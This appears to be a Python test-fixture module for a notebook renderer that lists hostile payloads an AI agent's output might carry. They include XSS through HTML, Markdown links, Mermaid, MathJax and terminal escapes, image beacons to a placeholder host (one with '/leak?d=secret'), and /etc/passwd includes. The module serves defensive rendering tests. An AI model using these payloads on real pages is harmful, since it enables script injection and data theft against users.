"""What a model, a tool or a server may say to run script, to call home, or to be taken for the page itself.

``{BEACON}`` in a payload stands for the address that a page must never call; script that runs sets ``__xss``.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

from createagents_nb.render.snapshot import Block, ReasoningBlock, TextBlock, ToolLine, TurnSnapshot

__all__ = ["HOSTILE", "NAMES", "NOWHERE", "WRECKING", "Case", "aimed", "read_h5sc", "spoken", "turn_of"]

NOWHERE = "http://127.0.0.1:1"
_RUN = "window.__xss=1"

HOSTILE = [
    # HTML
    f"<script>{_RUN}</script>",
    f"<img src={{BEACON}}/img onerror={_RUN}> <svg onload={_RUN}></svg>",
    '<a href="https://x" data-commandlinker-command="notebook:insert-cell-below">x</a>',
    '<button data-commandlinker-command="notebook:insert-cell-below" data-commandlinker-args="{}">x</button>',
    '<div id="x" class="jp-ToolbarButton" style="position:fixed;inset:0">x</div>',
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f'<iframe srcdoc="<script>parent.{_RUN[7:]}</script>"></iframe><iframe src="{{BEACON}}/frame"></iframe>',
    f"</div></div></pre></code></details></textarea></style></title><script>{_RUN}</script>",
    f"<!-- --><![CDATA[ x ]]><?php x ?><!DOCTYPE x><!-- <img src={{BEACON}}/comment onerror={_RUN}>",
    '<style>@import url("{BEACON}/import.css");</style><link rel="stylesheet" href="{BEACON}/link.css">',
    '<div style="background: url({BEACON}/background)">div</div><object data="{BEACON}/object"></object>',
    '<video src="{BEACON}/video" poster="{BEACON}/poster"></video><audio src="{BEACON}/audio" autoplay></audio>',
    '<form action="{BEACON}/form"><input name=q autofocus><button>Log in again</button></form>',
    '<input type=image src={BEACON}/input><picture><source srcset="{BEACON}/source"><img></picture>',
    # Links and images
    f"[x](javascript:{_RUN}) [x](JaVaScRiPt&colon;{_RUN}) [x](java\nscript:{_RUN}) [x](&#1;javascript:{_RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:x) [x](file:///etc/passwd) [x](//127.0.0.1:1/x)",
    f"<javascript:{_RUN}> <data:text/html,x> <JAVASCRIPT:{_RUN}> [x]: y",
    f"[a] [a][] [b][a]\n\n[a]: javascript:{_RUN} 'title'",
    f'[a](https://x "<img src=x onerror={_RUN}>\\") [b](https://y \'" onclick="{_RUN}\')',
    "![x]({BEACON}/leak?d=secret) ![](http://x) ![y](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x][pic] ![pic]\n\n[pic]: {BEACON}/reference.png",
    f"[![x]({{BEACON}}/p.png)]({{BEACON}}/a) ![[x](javascript:{_RUN})]({{BEACON}}/nested.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9z"
    'dmciLz4=) ![x](data:text/html,x) ![x](blob:x) <img src="data:image/svg+xml,%3Csvg onload=alert(1)%3E">',
    # What looks like text in our HTML and like Markdown or HTML to whoever reads it again
    f"\\![x]({{BEACON}}/escaped.png) \\[x](javascript:{_RUN})\n&#x200b;\n!\\[x]({{BEACON}}/no-longer-blank.png)",
    f"before\n\n![x]({{BEACON}}/after-a-blank-line.png)\n\n[x](javascript:{_RUN})\n\n<img onerror={_RUN}>\n\n",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;img src=x onerror={_RUN}&#62; &#x202e;x &#27;[31m &amp;lt;b>",
    f"\\<img src=x onerror={_RUN}\\> `<img src=x onerror={_RUN}>` ``<script>{_RUN}</script>``",
    # Fences
    f'```mermaid\ngraph TD; A["<img src={{BEACON}}/m onerror={_RUN}>"]-->B; click A href "javascript:{_RUN}"\n```',
    f"~~~ {{.mermaid}}\n%%{{init: {{'securityLevel': 'loose'}}}}%%\ngraph TD; A-->B; click A call {_RUN}()\n~~~",
    f'```python" onload="{_RUN}\nx\n```\n\n~~~"><script>{_RUN}</script>\nx\n~~~',
    f"```{{=html}}\n<script>{_RUN}</script>\n```\n\n`<b>`{{=html}}",
    f"```html\n<script>{_RUN}</script>\n\n<img src={{BEACON}}/fence onerror={_RUN}>\n```",
    "```svg\n<svg onload=alert(1)>\n```\n\n```vega-lite\n{}\n```\n\n```latex\n\\input{/etc/passwd}\n```",
    # Maths
    f"$\\href{{javascript:{_RUN}}}{{x}}$ \\(\\cssId{{x}}{{y}}\\) $\\text{{$\\href{{javascript:{_RUN}}}{{x}}$}}$",
    "\\(\\style{background:url({BEACON}/style)}{x}\\) $$\\require{html}\\data{x}{y}$$ $\\htmlData{x=y}{z}$",
    "$\\def\\x{\\x\\x}\\x$ $\\unicode{60}$ $\\class{jp-x}{y}$ $\\bbox[url(//x)]{y}$ $^^5cinput{/etc/passwd}$",
    "$\\includegraphics{{BEACON}/tex}$ $\\url{javascript:x}$ $\\htmlId{x}{y}$ $\\htmlStyle{position:fixed}{y}$",
    "$\\newcommand{\\y}[1]{#1#1}\\y{\\y{x}}$ $\\let\\frac\\href\\frac{javascript:x}{y}$ $\\label{x}\\tag{<b>}y$",
    f"$</span><script>{_RUN}</script>$ $$<img src=x onerror={_RUN}>$$ $x^2$ $$\\mathbb{{R}}$$",
    f"``` a``\\\\( ``` `\\\\) <img src=x onerror={_RUN}>`",
    f"``` a``\\begin{{x}} ``` `\\end{{x}} <img src=x onerror={_RUN}>`",
    f"- - ```\n    $\n    ```\n- ```\n  $\n  <img src=x onerror={_RUN}>\n  ```",
    f"$$\n~~~\n$$\n\n```\n~~~\n<img src=x onerror={_RUN}>\n```",
    f"~~~~x~~~~\n\n```\n~~~~\n<script>{_RUN}</script>\n```",
    # Other people's template languages
    "{{< include /etc/passwd >}} :::{.x}\n:::\n\\input{/etc/passwd} {{ ''.__class__ }} {% raw %} ${x} <%= x %>",
    # Terminals, and what the eye does not see
    f"\x1b]8;;javascript:{_RUN}\x07link\x1b]8;;\x07 \x1b]8;;{{BEACON}}/osc\x1b\\link \x1b[2J\x9b31m\x1b[31mred",
    "abc\u202egnp.exe \u2066x\u2069 zero\u200bwidth \U000e0041\U000e0042 \ud800 <\u200bscript>x</\u200bscript>",
    # What Jupyter would show as something else
    '{"application/vnd.jupyter.widget-view+json": {"version_major": 2, "version_minor": 0, "model_id": "x"}}',
    f'{{"text/html": "<script>{_RUN}</script>", "application/javascript": "{_RUN}", "image/svg+xml": "<svg/>"}}',
    f"<!DOCTYPE html><html><head><base href={{BEACON}}/base><title>x</title></head><body onload={_RUN}>x</body>",
    # Tables
    f"| a | b |\n|---|---|\n| <script>{_RUN}</script> | [x](javascript:{_RUN}) `|` $|$ |\n| ![]({{BEACON}}/td) |",
]

NAMES = [
    f"<img src=x onerror={_RUN}>",
    "<b data-commandlinker-command=notebook:insert-cell-below>x</b>",
    "![x]({BEACON}/name.png)",
    f"[x](javascript:{_RUN})",
    f"</div></code></summary><script>{_RUN}</script>",
    f'" onclick="{_RUN}" x="',
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f"&lt;svg onload={_RUN}&gt; &amp; \u202eeman\u2066 zero\u200bwidth",
]
"""Short enough to be shown whole as a name of an agent or a model, and sendable."""

WRECKING = ("<meta http-equiv", "<frameset", "<base", "history.pushState", "position:fixed", "javascript:&apos;")
"""What, raw in a page, takes away the page in which one wants to count."""


@dataclass(frozen=True)
class Case:
    """A payload, and the script that a page would have to run to set it off, if it needs one."""

    payload: str
    trigger: str = ""


def aimed(payload: str, home: str = NOWHERE) -> str:
    """A payload that calls ``home``."""
    return payload.replace("{BEACON}", home)


def read_h5sc(folder: Path, home: str = NOWHERE) -> list[Case]:
    """The vectors of the HTML5 Security Cheatsheet."""
    found = json.loads((folder / "xss-h5sc.json").read_text("utf-8"))
    return [Case(aimed(entry["payload"], home), entry["trigger"]) for entry in found]


def spoken(payloads: list[str], *, in_code: bool = True) -> str:
    """An answer with a formula that says each payload as text, quoted, in a list, and in fences and code spans."""
    parts = ["$x^2$"]
    for payload in payloads:
        parts += [_indented(payload, "> - ", ">   "), payload]
        if in_code:
            parts += [f"`````html\n{payload}\n`````", f"`` {' '.join(payload.split())} ``"]
    return "\n\n".join(parts)


def _indented(text: str, first: str, rest: str) -> str:
    return first + text.replace("\r", "").replace("\n", f"\n{rest}")


def turn_of(payload: str, blocks: tuple[Block, ...] = ()) -> TurnSnapshot:
    """A turn that says ``payload`` through every channel there is."""
    line = ToolLine(
        tool_call_id=payload, name=payload, arguments=payload, status="error", latency_s=0.1, result=payload
    )
    return TurnSnapshot(
        call_id=payload,
        agent=payload,
        provider="openai",
        model=payload,
        status="error",
        blocks=blocks
        or (
            ReasoningBlock(payload),
            TextBlock(payload),
            TextBlock(f"```python\n{payload}\n```\n\n`{payload}`\n\n    {payload}"),
            line,
            ToolLine(tool_call_id="2", name="f", arguments=json.dumps({payload: payload}), result=payload),
            TextBlock(f"> - {payload}\n\n${payload}$\n\n| {payload} |\n|---|\n\n[{payload}](https://x.example)"),
        ),
        error_type=payload,
        error_text=payload,
        record={"call": {"prompt": payload, payload: payload}},
    )
